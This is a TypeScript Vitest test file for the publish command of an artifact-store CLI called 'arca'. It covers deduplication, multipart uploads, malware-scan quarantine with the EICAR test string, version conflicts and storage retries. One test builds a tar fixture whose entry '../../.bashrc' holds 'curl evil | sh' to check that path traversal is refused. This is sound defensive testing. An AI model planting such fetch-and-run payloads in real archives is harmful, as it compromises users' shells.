import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tar } from '../support/archives.ts';
import { type Workdir, workdir } from './files.ts';
import { arca, EICAR, PART_SIZE, startStore, type TestStore } from './harness.ts';

describe('arca publish', () => {
  let store: TestStore;
  let input: Workdir;

  beforeAll(async () => {
    store = await startStore();
    input = await workdir();
  });

  afterAll(async () => {
    await store.close();
    await input.remove();
  });

  it('publishes files and prints the version with --json', async () => {
    const app = await input.file('app.tar.gz', 20_000);
    const notes = await input.file('notes.txt', 'release notes\n');

    const result = await arca(store, [
      'publish',
      'demo/app@1.0.0',
      app,
      notes,
      '--meta',
      'commit=abc123',
      '--json',
    ]);

    expect(result.code).toBe(0);
    const version = JSON.parse(result.stdout);
    expect(version).toMatchObject({
      namespace: 'demo',
      package: 'app',
      version: '1.0.0',
      metadata: { commit: 'abc123' },
    });
    expect(version.files.map((f: { name: string }) => f.name)).toEqual(['app.tar.gz', 'notes.txt']);
    expect(version.files[0].mediaType).toBe('application/gzip');
  });

  it('skips files the store already has', async () => {
    const shared = await input.file('shared.bin', 50_000);
    const first = await input.file('first.txt', 'first\n');
    const second = await input.file('second.txt', 'second\n');
    expect((await arca(store, ['publish', 'demo/dedupe@1', shared, first, '--wait'])).code).toBe(0);
    const putsBefore = store.storagePuts.length;

    const result = await arca(store, ['publish', 'demo/dedupe@2', shared, second, '--wait', '--json']);

    expect(result.code).toBe(0);
    expect(result.stderr).toContain('shared.bin: the store already has it');
    expect(result.stderr).not.toContain('shared.bin: uploaded');
    expect(store.storagePuts.length - putsBefore).toBe(1);
    expect(JSON.parse(result.stdout).state).toBe('available');
  });

  it('uploads a file above the multipart threshold in parallel parts', async () => {
    const big = await input.file('big.bin', 2 * PART_SIZE + 12_345);
    const putsBefore = store.storagePuts.length;

    const result = await arca(store, ['publish', 'demo/big@1.0.0', big, '--wait', '--json']);

    expect(result.code).toBe(0);
    expect(store.storagePuts.slice(putsBefore)).toEqual([200, 200, 200]);
    expect(JSON.parse(result.stdout).files[0]).toMatchObject({
      size: 2 * PART_SIZE + 12_345,
      state: 'available',
    });
  });

  it('waits for the scan with --wait and exits 4 with the findings when it quarantines', async () => {
    const infected = await input.file('infected.txt', `harmless prefix ${EICAR} suffix`);

    const result = await arca(store, ['publish', 'demo/eicar@1.0.0', infected, '--wait']);

    expect(result.code).toBe(4);
    expect(result.stderr).toContain('quarantined');
    expect(result.stderr).toContain('EICAR-Test-File');
  });

  it('shows what the scan found inside an archive, and the entry that quarantines one', async () => {
    const sbom = '{"bomFormat":"CycloneDX","specVersion":"1.6"}';
    const release = await input.file(
      'release.tar.gz',
      gzipSync(
        tar([
          { path: 'bin/app', data: 'x'.repeat(2048) },
          { path: 'sbom.cdx.json', data: sbom },
        ]),
      ),
    );
    const slip = await input.file(
      'slip.tar.gz',
      gzipSync(tar([{ path: '../../.bashrc', data: 'curl evil | sh' }])),
    );

    const published = await arca(store, ['publish', 'demo/archive@1.0.0', release, '--wait']);
    const shown = await arca(store, ['show', 'demo/archive@1.0.0']);
    const refused = await arca(store, ['publish', 'demo/archive@1.0.1', slip, '--wait']);

    expect(published.code).toBe(0);
    expect(shown.stdout).toContain('tar+gzip, 2 entries');
    expect(shown.stdout).toContain('SBOMs: sbom.cdx.json');
    expect(refused.code).toBe(4);
    expect(refused.stderr).toContain('[archive/path-traversal] entry "../../.bashrc" has a ".." segment');
  });

  it('exits 0 on a re-run that publishes the same version with the same files: already published, identical', async () => {
    const file = await input.file('same.txt', 'same\n');
    expect((await arca(store, ['publish', 'demo/rerun@1.0.0', file])).code).toBe(0);

    const again = await arca(store, ['publish', 'demo/rerun@1.0.0', file, '--wait']);

    expect(again.code).toBe(0);
    expect(again.stderr).toContain('demo/rerun@1.0.0 is already published, identical');
  });

  it('refuses a second publish of the same version with other content with exit 3 and the difference', async () => {
    const file = await input.file('again.txt', 'again\n');
    expect((await arca(store, ['publish', 'demo/again@1.0.0', file])).code).toBe(0);
    const changed = await input.file('again.txt', 'changed\n');

    const result = await arca(store, ['publish', 'demo/again@1.0.0', changed]);

    expect(result.code).toBe(3);
    expect(result.stderr).toContain(
      'VersionExists: version demo/again@1.0.0 already exists with other content',
    );
  });
});

// Faults are injected by the embedded storage endpoint, or on aws by a proxy in front of moto's S3.
describe('arca publish against flaky storage', () => {
  let store: TestStore;
  let input: Workdir;

  beforeAll(async () => {
    store = await startStore({ faults: { failPartPuts: [2] } });
    input = await workdir();
  });

  afterAll(async () => {
    await store.close();
    await input.remove();
  });

  it('retries a failed part on its own, not the whole file', async () => {
    const big = await input.file('flaky.bin', 4 * PART_SIZE);

    const result = await arca(store, ['publish', 'demo/flaky@1.0.0', big, '--wait']);

    expect(result.code).toBe(0);
    expect(result.stderr).toMatch(/retrying PUT flaky\.bin part \d/);
    expect(store.storagePuts.filter((s) => s === 500)).toHaveLength(1);
    expect(store.storagePuts.filter((s) => s === 200)).toHaveLength(4);
  });
});
